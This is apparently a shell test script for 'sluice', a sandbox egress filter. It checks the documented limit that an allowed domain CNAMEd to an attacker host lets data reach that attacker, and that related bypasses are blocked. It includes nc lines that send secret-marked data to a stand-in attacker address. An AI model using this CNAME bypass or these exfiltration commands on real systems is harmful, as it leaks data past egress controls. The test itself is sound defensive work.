#!/bin/bash
# 11-cname-to-attacker: an allowed name whose own zone points it (by a
# CNAME) at the attacker. sluice trusts an allowed name with its answers:
# the addresses at the end of the chain are bound to the name the sandbox
# asked, so the sandbox reaches the attacker under that name. This is the
# README's "an allowed name's own DNS" limit, asserted here as it is, next
# to what does hold: the CNAME target is no allowed name of its own (not
# resolvable, not usable as SNI), a CNAME whose target has no address
# binds nothing, and another sandbox gets nothing from the binding.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-cname-to-attacker
tb_internet_up || { tb_fail "test bed up"; tb_done; }
# cdn.test -> atk.attacker.test -> the attacker; fronted.test -> a name
# dnsmasq answers by --address, which it does not follow: no A record.
tb_dnsmasq_restart --host-record=atk.attacker.test,"$TB_ADDR_ATK" \
    --cname=cdn.test,atk.attacker.test --cname=fronted.test,x.evil.test ||
    { tb_fail "dnsmasq with the CNAMEs"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["cdn.test", "fronted.test"]}}
EOF
tb_check "sandbox a" tb_sandbox_add a "$TB_DIR/policy.json"
tb_check "sandbox b" tb_sandbox_add b "$TB_DIR/policy.json"

# the CNAME target itself is not allowed: NXDOMAIN, never asked upstream
out=$(tb_in a dig +time=2 +tries=1 atk.attacker.test 2>&1)
tb_assert_match "$out" "status: NXDOMAIN" "the CNAME target by itself: NXDOMAIN"
tb_assert_eq "$(tb_upstream_queries 'attacker')" 0 "and the upstream never heard of it"

# a CNAME to a name without an address: the chain comes back, no address
tb_assert_eq "$(tb_in a dig +short +time=2 +tries=1 fronted.test | tr '\n' ' ')" \
    "x.evil.test. " "fronted.test: only the CNAME, no address"

# the allowed name's chain ends at the attacker: the address is bound to
# cdn.test, the name asked
tb_assert_eq "$(tb_in a dig +short +time=2 +tries=1 cdn.test | tr '\n' ' ')" \
    "atk.attacker.test. $TB_ADDR_ATK " "cdn.test resolves through the CNAME to the attacker"

# the limit: under the allowed name, the sandbox reaches the attacker
out=$(printf 'POST / HTTP/1.1\r\nHost: cdn.test\r\nContent-Length: 16\r\n\r\nsecret-via-cname' |
    tb_in a nc -w 3 cdn.test 80)
tb_assert_eq "$out" "attacker" "HTTP as cdn.test reaches the attacker (the documented limit)"
tb_in a curl -s --max-time 3 -k https://cdn.test/ >/dev/null 2>&1
tb_wait_count 2 3 tb_attacker_conn_count >/dev/null
tb_check "the attacker received the POST body" \
    [ "$(tb_attacker_received | grep -ac secret-via-cname)" = 1 ]
tb_check "and a ClientHello naming cdn.test" \
    [ "$(tb_attacker_received | grep -ac 'cdn\.test')" -ge 2 ]

# what holds: the target's name as SNI is refused on that same address
n0=$(tb_attacker_payload_bytes proto=tcp)
out=$(tb_in a "$TB_PY" "$TB_LIB/tlsclient.py" "$TB_ADDR_ATK" 443 --sni atk.attacker.test)
tb_assert_eq "$out" "reset" "SNI atk.attacker.test to the same address: reset"
# and another sandbox cannot use a's binding
echo secret-from-b | tb_in b nc -w 2 "$TB_ADDR_ATK" 80 >/dev/null 2>&1
tb_check "sandbox b cannot reach the address a resolved" [ $? != 0 ]
sleep 0.5
tb_assert_eq "$(tb_attacker_payload_bytes proto=tcp)" "$n0" \
    "the attacker received no byte from the refused flows"
tb_check "no secret from b on the far side" \
    [ "$(tb_attacker_received | grep -ac secret-from-b)" = 0 ]

tb_wait_rows "SELECT count(*) FROM flows" 4 >/dev/null
tb_assert_eq "$(tb_sql "SELECT sandbox = '${P}-b', dst_ip, dst_port, verdict, reason,
    ifnull(name, '-'), ifnull(sni, '-'), ifnull(http_host, '-') FROM flows ORDER BY id")" \
"0|$TB_ADDR_ATK|80|allow|allowed_domain|cdn.test|-|cdn.test
0|$TB_ADDR_ATK|443|allow|allowed_domain|cdn.test|cdn.test|-
0|$TB_ADDR_ATK|443|deny|sni_not_allowed|cdn.test|atk.attacker.test|-
1|$TB_ADDR_ATK|80|deny|no_dns_binding|-|-|-" \
    "rows: allowed as cdn.test, the target's SNI refused, b refused"
tb_assert_eq "$(tb_sql "SELECT DISTINCT qname, rcode, reason, ifnull(answers, '-')
    FROM dns_queries WHERE qtype = 'A' ORDER BY id")" \
"atk.attacker.test|NXDOMAIN|not_allowlisted|-
fronted.test|NOERROR|allowed_domain|-
cdn.test|NOERROR|allowed_domain|$TB_ADDR_ATK" "the queries' rows"
tb_done
